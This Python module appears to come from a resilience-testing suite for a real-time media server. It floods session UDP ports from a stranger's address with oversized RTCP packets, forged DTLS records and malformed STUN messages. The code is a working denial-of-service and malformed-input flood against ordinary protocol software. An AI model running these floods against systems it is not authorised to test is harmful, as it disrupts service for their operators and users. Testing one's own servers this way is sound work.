"""Floods of datagrams to the ports of sessions, from an address that no session has."""

from __future__ import annotations

import asyncio
import os
import random
import socket
import struct
import time
from collections.abc import Iterator

from .attack_target import Target

DATAGRAMS_PER_S = 4_000
"""Rate of a flood: what one sender on a slow line can do."""

MAGIC_COOKIE = 0x2112A442
"""Magic cookie of STUN (RFC 8489, section 5)."""


async def flood(target: Target, datagrams: Iterator[bytes]) -> None:
    """Send datagrams to every session's port, from an address that belongs to no session."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setblocking(False)
        began_s = time.monotonic()
        for sent, datagram in enumerate(datagrams):
            ahead_s = sent / DATAGRAMS_PER_S - (time.monotonic() - began_s)
            if ahead_s > 0:
                await asyncio.sleep(ahead_s)
            if time.monotonic() - began_s > target.seconds:
                return
            try:
                sender.sendto(datagram, target.endpoints[sent % len(target.endpoints)])
                target.done["datagrams"] += 1
            except OSError as error:  # a closed port reports an error; try the next one
                target.done[type(error).__name__] += 1


def long_rtcp() -> Iterator[bytes]:
    """Yield datagrams that look like RTCP and exceed libsrtp's limit."""
    body = os.urandom(1_598)
    while True:
        yield b"\x80\xc8" + body


def forged_dtls() -> Iterator[bytes]:
    """Yield forged DTLS records of every kind (RFC 6347, section 4.1)."""
    chance = random.Random(12)
    while True:
        kind, size = chance.choice((20, 21, 22, 23)), chance.randrange(2, 200)
        body = b"\x02\x28" if kind == 21 else chance.randbytes(size)
        yield struct.pack("!BHHHIH", kind, 0xFEFD, 0, 0, chance.randrange(9), len(body)) + body


def malformed_stun() -> Iterator[bytes]:
    """Yield STUN messages with truncated attributes (RFC 8489, section 14)."""
    chance = random.Random(19)
    while True:
        attributes = b"".join(
            struct.pack("!HH", chance.choice((1, 6, 8, 9, 0x20, 0x25, 0x8028)), size)
            + chance.randbytes(chance.randrange(0, 5))
            for size in (chance.randrange(0, 9), chance.randrange(0, 9))
        )
        yield struct.pack("!HHI", 1, len(attributes), MAGIC_COOKIE) + chance.randbytes(12) + attributes


async def long_datagrams(target: Target) -> None:
    """Send datagrams too long for SRTP, then forged DTLS records, from a stranger's address."""
    half = target._replace(seconds=target.seconds / 2)
    await flood(half, long_rtcp())
    await flood(half, forged_dtls())


async def stun(target: Target) -> None:
    """Send malformed STUN messages from a stranger's address."""
    await flood(target, malformed_stun())
